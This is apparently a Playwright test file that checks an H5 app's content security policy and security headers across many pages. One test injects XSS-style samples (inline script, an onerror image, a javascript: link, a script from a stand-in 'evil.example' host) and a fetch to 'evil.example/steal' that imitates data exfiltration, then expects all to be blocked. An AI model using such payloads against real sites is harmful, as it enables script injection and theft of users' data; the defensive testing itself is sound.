import { expect } from '@playwright/test';
import type { Page } from 'playwright-core';
import { handfuls } from './sample-pages';
import { test } from './test';

/** Pages that between them load all that the app loads: pictures, films, drawings, PDF, the map, workers. */
const PAGES = [
  '/',
  '/pages/pointStore/pointStore',
  '/pages/message/message',
  '/pages/userCenter/userCenter',
  '/pages/brandList/brandList',
  '/pages/payment/payment',
  '/pages/setting/setting',
  '/pages/maintainStore/maintainStore',
  '/packages/course/courseIndex/courseIndex',
  '/packages/repairCases/repairCases/repairCases',
  '/packages/vehicleMaintain/maintain/maintain',
  '/packages/maintainStore/storeBriefing/storeBriefing',
  '/packages/maintainStore/storeTurnover/storeTurnover',
  '/packages/maintainStore/vehicleReceive/add',
  '/packages/user/profile/profile',
  '/packages/user/partner/partner',
  '/packages/raffle/raffleList/raffleList',
];
/** Has the page note what its policy keeps from loading, in `violations`. */
async function watch(page: Page, violations: string[]): Promise<void> {
  await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    const note = (window as unknown as { noteViolation: (text: string) => void }).noteViolation;
    document.addEventListener('securitypolicyviolation', (event) =>
      note(`${event.effectiveDirective} ${event.blockedURI} on ${location.hash}`),
    );
  });
}

test.describe('the content security policy of the H5 page', () => {
  for (const { name, some } of handfuls(PAGES))
    test(`keeps nothing of the app from loading: the pages ${name}`, async ({ open, backend }) => {
      const violations: string[] = [];
      const app = await open(some[0], {
        as: await backend.logIn('13800138000'),
        prepare: (page) => watch(page, violations),
      });
      for (const page of some)
        await test.step(page, async () => {
          if (page !== some[0]) await app.goto(page);
          // Later requests come when the page has drawn what it loaded first.
          await app.settled();
          await app.page.waitForLoadState('networkidle');
        });
      expect(violations).toEqual([]);
    });

  test('runs no script that got into the page, and loads nothing from elsewhere', async ({ open }) => {
    const violations: string[] = [];
    const app = await open('/', { prepare: (page) => watch(page, violations) });
    await app.sees('汽修助手');
    await app.page.evaluate(async () => {
      const marks = window as unknown as { ran?: string[] };
      marks.ran = [];
      const script = document.createElement('script');
      script.textContent = 'window.ran.push("inline")';
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      const picture = document.createElement('div');
      picture.innerHTML = [
        '<img src="data:image/png;base64,x" onerror="window.ran.push(\'handler\')">',
        '<a id="bait" href="javascript:window.ran.push(\'link\')">x</a>',
      ].join('');
      // What is kept from loading is told of by an event, after which a handler of its own would have run.
      const failed = [foreign, picture.querySelector('img')].map(
        (element) => new Promise((resolve) => element?.addEventListener('error', resolve)),
      );
      document.body.append(script, foreign, picture);
      document.getElementById('bait')?.click();
      const stolen = fetch('https://evil.example/steal').then(
        () => marks.ran?.push('request'),
        () => undefined,
      );
      await Promise.all([...failed, stolen]);
    });
    for (const directive of ['script-src', 'connect-src'])
      await expect.poll(() => violations).toContainEqual(expect.stringMatching(new RegExp(`^${directive}`)));
    expect(await app.page.evaluate(() => (window as unknown as { ran?: string[] }).ran)).toEqual([]);
  });

  test('comes with the headers of a page that others may not embed, sniff or ask the device through', async ({
    request,
    backend,
  }) => {
    const headers = (await request.get(`${backend.place.origin}/dlqxuser/`)).headers();
    expect(headers['content-security-policy']).toMatch(/frame-ancestors 'self'/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['permissions-policy']).toMatch(/microphone=\(\)/);
    expect(headers['set-cookie']).toBeUndefined();
  });
});
